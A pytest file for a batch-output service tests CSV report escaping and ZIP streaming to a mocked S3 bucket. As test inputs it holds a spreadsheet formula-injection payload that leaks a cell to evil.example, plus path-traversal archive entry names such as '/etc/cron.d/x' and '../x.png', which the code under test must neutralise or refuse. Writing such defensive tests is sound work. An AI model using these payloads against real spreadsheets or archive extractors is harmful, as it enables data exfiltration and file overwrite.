"""Batch output: the CSV report read back as a spreadsheet or csv.reader would, and results
ZIPs streamed to a real (moto) bucket and read back with zipfile."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError
from moto import mock_aws

from silhouette.service.batch_output import (
    ReportRow,
    ZipEntry,
    ZipSummary,
    report_csv,
    write_zip_to_s3,
)

MB = 1024 * 1024
BUCKET = "results"
KEY = "batches/b-1/results.zip"
COLUMNS = [
    "item",
    "source",
    "job_id",
    "status",
    "reason",
    "person_confidence",
    "top_colours",
    "age_range",
    "sex",
    "result_file",
    "cutout_file",
    "overlay_file",
]


def row(item: str = "p1", **changes: Any) -> ReportRow:
    fields: dict[str, Any] = {
        "item": item,
        "source": f"photos/{item}.jpg",
        "job_id": "0123abcd",
        "status": "COMPLETED",
        "reason": None,
        "person_confidence": None,
        "top_colours": None,
        "age_range": None,
        "sex": None,
        "result_file": None,
        "cutout_file": None,
        "overlay_file": None,
    }
    return ReportRow(**(fields | changes))


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_report_has_a_header_then_a_row_per_item_in_column_order():
    completed = row(
        "p1",
        person_confidence=0.91234,
        top_colours="navy 41%; white 22%",
        age_range="25-32",
        sex="female",
        result_file="https://r.example/p1.json",
        cutout_file="https://r.example/p1.png",
        overlay_file="https://r.example/p1-overlay.png",
    )
    rejected = row("p2", job_id="4567ef", status="REJECTED", reason="not an image")

    data = report_csv([completed, rejected])

    assert data.startswith(",".join(COLUMNS).encode() + b"\r\n")
    assert read_csv(data) == [
        COLUMNS,
        [
            "p1",
            "photos/p1.jpg",
            "0123abcd",
            "COMPLETED",
            "",
            "0.912",
            "navy 41%; white 22%",
            "25-32",
            "female",
            "https://r.example/p1.json",
            "https://r.example/p1.png",
            "https://r.example/p1-overlay.png",
        ],
        ["p2", "photos/p2.jpg", "4567ef", "REJECTED", "not an image"] + [""] * 7,
    ]
    assert read_csv(report_csv([])) == [COLUMNS]


def test_extra_columns_are_the_union_in_first_seen_order_and_empty_where_missing():
    rows = [
        row("a", extra=(("sku", "1"), ("colour_hint", "red"))),
        row("b", extra=(("shoot", "s1"), ("sku", "2"))),
        row("c"),
    ]

    header, *lines = read_csv(report_csv(rows))

    assert header == [*COLUMNS, "sku", "colour_hint", "shoot"]
    assert [line[len(COLUMNS) :] for line in lines] == [
        ["1", "red", ""],
        ["2", "", "s1"],
        ["", "", ""],
    ]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"], ids=repr
)
def test_client_text_that_a_spreadsheet_would_run_is_neutralised(text):
    report = row(text, source=text, reason=text, extra=((text, text),))

    header, line = read_csv(report_csv([report]))

    assert header[-1] == "'" + text
    assert line[0] == line[1] == line[4] == line[-1] == "'" + text


def test_client_text_that_only_contains_formula_characters_is_left_alone():
    report = row("a=b", source="https://x.example/?q=-1", extra=(("note", "1+1 @home"),))

    header, line = read_csv(report_csv([report]))

    assert [line[0], line[1], header[-1], line[-1]] == [
        "a=b",
        "https://x.example/?q=-1",
        "note",
        "1+1 @home",
    ]


def test_commas_quotes_newlines_and_non_ascii_round_trip():
    awkward = {
        "item": 'Zoë, "the" model',
        "source": "photos/été/Zoë.jpg",
        "reason": 'first line\nsecond, line\r\nthird "quoted"',
    }
    report = row(**awkward, status="FAILED", extra=(("légende", 'a,b\n"c"'), ("日本", "写真")))

    data = report_csv([report])
    header, line = read_csv(data)

    assert "Zoë".encode() in data
    assert [line[0], line[1], line[4]] == list(awkward.values())
    assert header[-2:] == ["légende", "日本"]
    assert line[-2:] == ['a,b\n"c"', "写真"]


# --- the results ZIP -------------------------------------------------------------------------


class RecordingS3:
    """The S3 client, noting the size of every part uploaded."""

    def __init__(self, client: Any) -> None:
        self.client = client
        self.part_sizes: list[int] = []

    def upload_part(self, **kwargs: Any) -> Any:
        self.part_sizes.append(len(kwargs["Body"]))
        return self.client.upload_part(**kwargs)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.client, name)


@pytest.fixture
def s3(monkeypatch) -> Iterator[RecordingS3]:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.setenv(name, "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    with mock_aws():
        client = boto3.session.Session().client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=BUCKET)
        yield RecordingS3(client)


def entry(name: str, data: bytes) -> ZipEntry:
    return ZipEntry(name, lambda: data)


def uploaded(s3: RecordingS3) -> zipfile.ZipFile:
    response = s3.get_object(Bucket=BUCKET, Key=KEY)
    assert response["ContentType"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response["Body"].read()))


def nothing_left(s3: RecordingS3) -> bool:
    """No object and no multipart upload still pending in the bucket."""
    objects = s3.list_objects_v2(Bucket=BUCKET)
    pending = s3.list_multipart_uploads(Bucket=BUCKET)
    return "Contents" not in objects and "Uploads" not in pending


def test_a_small_zip_is_one_put_that_reads_back_byte_identical(s3):
    files = {
        "p1/result.json": b'{"status": "COMPLETED"}',
        "p1/cutout.png": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "été/Zoë overlay.jpg": b"\xff\xd8\xff" + bytes(500),
        "report.csv": report_csv([row()]),
    }

    summary = write_zip_to_s3(s3, BUCKET, KEY, [entry(*item) for item in files.items()])

    archive = uploaded(s3)
    assert archive.testzip() is None
    assert {name: archive.read(name) for name in archive.namelist()} == files
    assert archive.namelist() == list(files)
    size = s3.head_object(Bucket=BUCKET, Key=KEY)["ContentLength"]
    assert summary == ZipSummary(entries=4, bytes=size, parts=0)
    assert s3.part_sizes == []


def test_a_big_zip_goes_up_in_full_parts_and_reads_back_byte_identical(s3):
    rng = random.Random(7)
    files = {f"photos/{n}.jpg": rng.randbytes(4 * MB) for n in range(3)}
    part_size = 5 * MB

    summary = write_zip_to_s3(
        s3, BUCKET, KEY, [entry(*item) for item in files.items()], part_size=part_size
    )

    archive = uploaded(s3)
    assert {name: archive.read(name) for name in archive.namelist()} == files
    assert summary.entries == 3
    assert summary.parts == len(s3.part_sizes) >= 2
    assert s3.part_sizes[:-1] == [part_size] * (summary.parts - 1)  # S3's rule; and no hoarding
    assert 0 < s3.part_sizes[-1] <= part_size
    assert (
        summary.bytes
        == sum(s3.part_sizes)
        == s3.head_object(Bucket=BUCKET, Key=KEY)["ContentLength"]
    )
    assert s3.list_multipart_uploads(Bucket=BUCKET).get("Uploads") is None


def test_entries_are_read_one_at_a_time_as_they_are_written(s3):
    reads: list[str] = []

    def reader(name: str) -> ZipEntry:
        def read() -> bytes:
            reads.append(name)
            return name.encode()

        return ZipEntry(name, read)

    def entries() -> Iterator[ZipEntry]:
        for name in ("a.json", "b.json", "c.json"):
            yield reader(name)
            assert reads[-1] == name  # read by the time the next one is asked for, not before

    write_zip_to_s3(s3, BUCKET, KEY, entries())

    assert reads == ["a.json", "b.json", "c.json"]


def test_photos_are_stored_and_everything_else_deflated(s3):
    names = ["a.png", "b.jpg", "c.jpeg", "d.webp", "E.JPG", "result.json", "report.csv", "x.bin"]

    write_zip_to_s3(s3, BUCKET, KEY, [entry(name, b"0" * 1000) for name in names])

    assert {info.filename: info.compress_type for info in uploaded(s3).infolist()} == {
        "a.png": zipfile.ZIP_STORED,
        "b.jpg": zipfile.ZIP_STORED,
        "c.jpeg": zipfile.ZIP_STORED,
        "d.webp": zipfile.ZIP_STORED,
        "E.JPG": zipfile.ZIP_STORED,
        "result.json": zipfile.ZIP_DEFLATED,
        "report.csv": zipfile.ZIP_DEFLATED,
        "x.bin": zipfile.ZIP_DEFLATED,
    }


def test_an_entry_deleted_meanwhile_is_skipped_and_listed(s3, tmp_path):
    s3.put_object(Bucket=BUCKET, Key="artifacts/kept.png", Body=b"kept")

    def from_bucket(key: str) -> bytes:
        return s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()

    entries = [
        ZipEntry("kept.png", lambda: from_bucket("artifacts/kept.png")),
        ZipEntry("gone.png", lambda: from_bucket("artifacts/gone.png")),  # real NoSuchKey
        ZipEntry("local.json", (tmp_path / "deleted.json").read_bytes),
        entry("result.json", b"{}"),
    ]

    summary = write_zip_to_s3(s3, BUCKET, KEY, entries)

    assert summary.entries == 2
    assert summary.skipped == ("gone.png", "local.json")
    archive = uploaded(s3)
    assert archive.namelist() == ["kept.png", "result.json"]
    assert archive.read("kept.png") == b"kept"


def fails_with(error: BaseException) -> ZipEntry:
    def read() -> bytes:
        raise error

    return ZipEntry("broken.png", read)


@pytest.mark.parametrize(
    "error",
    [
        RuntimeError("renderer crashed"),
        PermissionError("not readable"),  # an OSError, but not a missing file
        ClientError({"Error": {"Code": "AccessDenied", "Message": "no"}}, "GetObject"),
    ],
    ids=["runtime", "permission", "access-denied"],
)
def test_a_failing_entry_aborts_the_upload_and_leaves_nothing(s3, error):
    first = entry("first.jpg", random.Random(1).randbytes(6 * MB))

    with pytest.raises(type(error)) as raised:
        write_zip_to_s3(s3, BUCKET, KEY, [first, fails_with(error)], part_size=5 * MB)

    assert raised.value is error
    assert s3.part_sizes == [5 * MB]  # a multipart upload really was under way
    assert nothing_left(s3)


def test_a_failing_entry_before_any_part_leaves_nothing(s3):
    with pytest.raises(RuntimeError):
        write_zip_to_s3(s3, BUCKET, KEY, [entry("a.json", b"{}"), fails_with(RuntimeError())])

    assert nothing_left(s3)


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("/etc/cron.d/x", "absolute path"),
        ("C:x.png", "absolute path"),
        ("../x.png", "parent-directory component"),
        ("a/../../x.png", "parent-directory component"),
        ("a/..", "parent-directory component"),
        ("a\\x.png", "backslash"),
        ("x.png\x00.json", "NUL character"),
        ("", "not a file name"),
        ("album/", "not a file name"),
    ],
)
def test_an_unsafe_entry_name_is_refused_and_nothing_is_left(s3, name, problem):
    entries = [entry("fine.json", b"{}"), entry(name, b"x")]

    with pytest.raises(ValueError, match=f"unsafe entry name .*: {problem}"):
        write_zip_to_s3(s3, BUCKET, KEY, entries)

    assert nothing_left(s3)


def test_a_repeated_entry_name_is_refused(s3):
    entries = [entry("p1/result.json", b"{}"), entry("p1/result.json", b"{}")]

    with pytest.raises(ValueError, match="duplicate entry name 'p1/result.json'"):
        write_zip_to_s3(s3, BUCKET, KEY, entries)

    assert nothing_left(s3)


def test_a_part_size_below_s3s_minimum_is_refused(s3):
    with pytest.raises(ValueError, match="at least 5242880 bytes"):
        write_zip_to_s3(s3, BUCKET, KEY, [entry("a.json", b"{}")], part_size=5 * MB - 1)

    assert nothing_left(s3)
